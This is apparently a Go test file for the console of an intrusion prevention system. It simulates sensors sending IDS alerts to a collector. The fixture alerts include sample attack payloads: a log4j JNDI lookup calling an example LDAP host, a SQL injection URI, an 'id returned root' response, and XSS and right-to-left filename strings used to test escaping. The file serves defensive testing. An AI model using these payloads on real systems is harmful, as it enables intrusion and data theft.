package web_test

import (
	"cmp"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"io"
	"log/slog"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/weir-ips/weir/internal/collector"
	"github.com/weir-ips/weir/internal/sensor/uplink"
	"github.com/weir-ips/weir/pkg/verdict"
	"github.com/weir-ips/weir/pkg/wire"
	"github.com/weir-ips/weir/web"
)

// world is a collector as `collector run` makes it, and sensors that reach it over its bus. Only their traffic is made up.
type world struct {
	url     string
	token   string // cookie of a session, for calls beside the browser
	sensors []*sensor
}

func startWorld(t *testing.T, edit ...func(*collector.Config)) *world {
	t.Helper()
	console, err := web.Handler()
	if err != nil {
		t.Fatal(err)
	}
	cfg := collector.Default()
	cfg.Data = t.TempDir()
	cfg.API.Listen, cfg.Bus.Listen, cfg.API.User = "127.0.0.1:0", "127.0.0.1:0", "ana"
	for _, f := range edit {
		f(&cfg)
	}
	ctx, cancel := context.WithCancel(context.Background())
	log := slog.New(slog.DiscardHandler)
	up, ended := make(chan [2]net.Addr, 1), make(chan error, 1)
	go func() {
		ended <- collector.Run(ctx, &cfg, collector.Options{
			Version: "test", Console: console, Log: log, Ready: func(console, bus net.Addr) { up <- [2]net.Addr{console, bus} },
		})
	}()
	w := &world{}
	var sensors sync.WaitGroup
	t.Cleanup(func() {
		cancel()
		sensors.Wait()
		if err := <-ended; err != nil {
			t.Error("collector:", err)
		}
	})
	var addrs [2]net.Addr
	select {
	case addrs = <-up:
	case err := <-ended:
		ended <- nil
		t.Fatal("collector did not come up: ", err)
	}
	w.url = "http://" + addrs[0].String() + "/"
	for i, mode := range []string{"gwlb", "host", "mirror"} {
		s := &sensor{id: fmt.Sprintf("edge-%d", i+1), mode: mode, verdicts: map[string]verdict.Verdict{}, hits: map[string]wire.Hit{}}
		s.up, err = uplink.New(uplink.Options{
			Sensor: s.id, URL: "nats://" + addrs[1].String(), Dir: filepath.Join(cfg.Data, s.id), Applier: s, Health: s.health, Log: log,
		})
		if err != nil {
			t.Fatal(err)
		}
		sensors.Go(func() {
			if err := s.up.Run(ctx); err != nil {
				t.Error("sensor:", err)
			}
		})
		w.sensors = append(w.sensors, s)
	}
	return w
}

// putRules makes text the collector's rules.
func (w *world) putRules(t *testing.T, text string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodPut, w.url+"api/v1/rules", strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "text/plain")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != http.StatusOK {
		answer, _ := io.ReadAll(res.Body)
		t.Fatalf("rules: %s %s", res.Status, answer)
	}
}

// sensor carries out verdicts on made-up packets.
type sensor struct {
	id, mode string
	up       *uplink.Uplink

	mu       sync.Mutex
	verdicts map[string]verdict.Verdict
	hits     map[string]wire.Hit
	packets  uint64
	bytes    uint64
	dropped  uint64
	says     string // its state, when it is not ok
}

func (s *sensor) Apply(v verdict.Verdict) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.verdicts[v.ID] = v
	return nil
}

func (s *sensor) Remove(id string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	delete(s.verdicts, id)
	return nil
}

func (s *sensor) Replace(_, _ uint64, vs []verdict.Verdict) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	clear(s.verdicts)
	for _, v := range vs {
		s.verdicts[v.ID] = v
	}
	return nil
}

func (s *sensor) health(h *wire.Health) {
	s.mu.Lock()
	defer s.mu.Unlock()
	h.Mode, h.Policy, h.Version, h.State, h.Ruleset = s.mode, "enforce", "1.4.0", cmp.Or(s.says, "ok"), "4f2a"
	h.Packets, h.Bytes, h.Verdicts = s.packets, s.bytes, uint64(len(s.verdicts))
	h.Drops = map[string]uint64{"source": s.dropped, "flood-syn": s.packets / 30, "bad-l4": s.packets / 90, "tcp-flags": s.packets / 200}
	for _, hit := range s.hits {
		h.Hits = append(h.Hits, hit)
	}
}

// say makes the sensor tell that it is not ok.
func (s *sensor) say(state string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.says = state
}

// traffic is n packets from src; it reports whether they got through.
func (s *sensor) traffic(src netip.Addr, n uint64) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.packets, s.bytes = s.packets+n, s.bytes+n*640
	for id, v := range s.verdicts {
		if v.Action != verdict.Drop && v.Action != verdict.Observe || !v.Match.Src.Contains(src) {
			continue
		}
		hit := s.hits[id]
		s.hits[id] = wire.Hit{ID: id, Packets: hit.Packets + n, Bytes: hit.Bytes + n*640}
		if v.Action == verdict.Drop {
			s.dropped += n
			return false
		}
	}
	return true
}

// attack is one kind of alert.
type attack struct {
	sid                 uint32
	signature, category string
	severity            uint8
	app, payload        string
	weight              int
}

var attacks = []attack{
	{2010935, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, "", "", 9},
	{2002910, "ET SCAN Potential VNC Scan 5800-5820", "Attempted Information Leak", 2, "", "", 6},
	{2027757, "ET DNS Query for .to TLD", "Potentially Bad Traffic", 3, "dns", "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06beacon\x02to\x00\x00\x01\x00\x01", 16},
	{2013028, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 3, "http", "GET /latest HTTP/1.1\r\nHost: mirror.example\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n", 20},
	{2100498, "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2, "http", "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n", 4},
	{2034647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1, "http", "GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${${lower:j}ndi:ldap://198.51.100.9/a}\r\n\r\n", 3},
	{2024792, "ET WEB_SERVER SQL Injection UNION SELECT in URI", "Web Application Attack", 1, "http", "GET /item?id=1%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1\r\nHost: shop.example\r\n\r\n", 3},
}

// hostile holds everything that a packet or a rule could try on the page.
var hostile = attack{9000001, `<img src=x onerror="window.pwned=1"> "' & </script><script>window.pwned=2</script>` + "\u202Egnp.exe\u0000", "<b>bold</b>", 1, "http",
	"GET /<script>window.pwned=3</script> HTTP/1.1\r\nHost: <svg onload=window.pwned=4>\r\n\r\n\x1b[31m\u202e", 0}

func pick(r *rand.Rand) attack {
	sum := 0
	for _, a := range attacks {
		sum += a.weight
	}
	n := r.IntN(sum)
	for _, a := range attacks {
		if n -= a.weight; n < 0 {
			return a
		}
	}
	return attacks[0]
}

// raise sends the alert that a sensor would, blocked or not.
func (s *sensor) raise(a attack, src netip.Addr, at time.Time, blocked bool) {
	action := map[bool]string{true: "blocked", false: "allowed"}[blocked]
	from, to := netip.AddrPortFrom(src, uint16(1024+rand.IntN(60000))), netip.AddrPortFrom(netip.MustParseAddr("10.0.3.20"), 443)
	stamp := at.Format("2006-01-02T15:04:05.000000-0700")
	record := map[string]any{
		"timestamp": stamp, "flow_id": flowOf(src, at), "in_iface": "eth0", "event_type": "alert",
		"src_ip": from.Addr(), "src_port": from.Port(), "dest_ip": to.Addr(), "dest_port": to.Port(), "proto": "TCP", "app_proto": a.app,
		"alert": map[string]any{
			"action": action, "gid": 1, "signature_id": a.sid, "rev": 3, "signature": a.signature, "category": a.category, "severity": a.severity,
			"metadata": map[string]any{"mitre_technique_id": []string{"T1190"}, "mitre_technique_name": []string{"Exploit_Public_Facing_Application"}},
		},
		"flow": map[string]any{"pkts_toserver": 4, "pkts_toclient": 3, "bytes_toserver": 1290, "bytes_toclient": 842, "start": stamp},
	}
	if a.payload != "" {
		record["payload"] = base64.StdEncoding.EncodeToString([]byte(a.payload))
		record["packet"] = base64.StdEncoding.EncodeToString(append([]byte{0x45, 0, 0, byte(20 + len(a.payload))}, a.payload...))
		record["packet_info"] = map[string]any{"linktype": 12}
	}
	if a.app == "http" {
		record["http"] = map[string]any{"hostname": "shop.example", "url": a.payload[:min(len(a.payload), 60)], "http_method": "GET", "protocol": "HTTP/1.1", "status": 200}
	}
	eve, err := json.Marshal(record)
	if err != nil {
		panic(err)
	}
	s.up.Publish(wire.Event{
		Time: at, SID: a.sid, Severity: a.severity, Proto: 6, Src: from, Dst: to, Handshake: true, Category: a.category, EVE: eve,
	})
}

// flood is a record of a flood that the sensor measured, and of what it does about it.
func (s *sensor) flood(dst netip.Addr, phase string, since, at time.Time, counted uint64) {
	const layout = "2006-01-02T15:04:05.000000-0700"
	measure := func(step, what string, dropped uint64) map[string]any {
		return map[string]any{"step": step, "what": what, "why": "most of the attack looks so", "since": since.Format(layout), "expires": at.Add(time.Minute).Format(layout), "dropped": dropped, "would_drop": 0}
	}
	eve, err := json.Marshal(map[string]any{
		"timestamp": at.Format(layout), "event_type": "alert", "src_ip": "0.0.0.0", "dest_ip": dst, "dest_port": 443, "proto": "TCP",
		"alert": map[string]any{
			"action": "allowed", "gid": 1, "signature_id": 1000100, "rev": 1, "signature": "WEIR SYN flood", "category": "Attempted Denial of Service", "severity": 2,
			"context": map[string]any{"weir": map[string]any{"detection": map[string]any{
				"id": fmt.Sprint("syn-", since.Unix()), "vector": "syn-flood", "phase": phase, "explanation": "SYNs without a completed handshake", "unit": "packets/s", "value": 41200, "threshold": 1000, "peak": 52300,
				"since": since.Format(layout), "counted": counted, "bytes": counted * 60, "sources": 38000,
				"measures": []any{measure("fingerprint", "length 40, TTL 64, window 512", counted*9/10), measure("rate limit", "1,000 SYNs a second", counted/20)},
			}}},
		},
	})
	if err != nil {
		panic(err)
	}
	s.up.Publish(wire.Event{
		Time: at, SID: 1000100, Severity: 2, Proto: 6, Src: netip.AddrPortFrom(netip.IPv4Unspecified(), 0), Dst: netip.AddrPortFrom(dst, 443), Category: "Attempted Denial of Service", EVE: eve,
	})
}

// flowOf gives what a source does within a minute one flow, whose id JavaScript cannot hold as a number.
func flowOf(src netip.Addr, at time.Time) uint64 {
	h := fnv.New64a()
	fmt.Fprint(h, src, at.Unix()/60)
	return h.Sum64()>>1 | 1<<60
}

// source is one of some attackers, a few of them busy.
func source(r *rand.Rand) netip.Addr {
	if r.IntN(10) == 0 {
		return netip.MustParseAddr(fmt.Sprintf("2001:db8:%x::%x", r.IntN(9), 1+r.IntN(200)))
	}
	nets := [][3]byte{{203, 0, 113}, {198, 51, 100}, {192, 0, 2}}
	n := nets[r.IntN(3)]
	return netip.AddrFrom4([4]byte{n[0], n[1], n[2], byte(1 + int(r.ExpFloat64()*12)%250)})
}

// past gives the hour before ago a history: quiet, with a burst.
func (w *world) past(n int, ago time.Duration) {
	r := rand.New(rand.NewPCG(3, 4))
	now := time.Now().Add(-ago)
	for i := range n {
		back := time.Duration(r.Int64N(int64(58 * time.Minute)))
		if i%3 == 0 {
			back = 21*time.Minute + time.Duration(r.NormFloat64()*float64(2*time.Minute))
		}
		a := pick(r)
		w.sensors[i%3].raise(a, source(r), now.Add(-back-time.Minute), a.severity == 1 && r.IntN(2) == 0)
	}
}

// live makes traffic until ctx ends: perSecond alerts, and packets of those who are blocked.
func (w *world) live(ctx context.Context, perSecond int) {
	r := rand.New(rand.NewPCG(5, 6))
	tick := time.NewTicker(time.Second / 10)
	defer tick.Stop()
	for due := 0.0; ; {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		for due += float64(perSecond) / 10; due >= 1; due-- {
			s, src := w.sensors[r.IntN(3)], source(r)
			if s.traffic(src, uint64(20+r.IntN(400))) {
				s.raise(pick(r), src, time.Now(), false)
			}
		}
	}
}
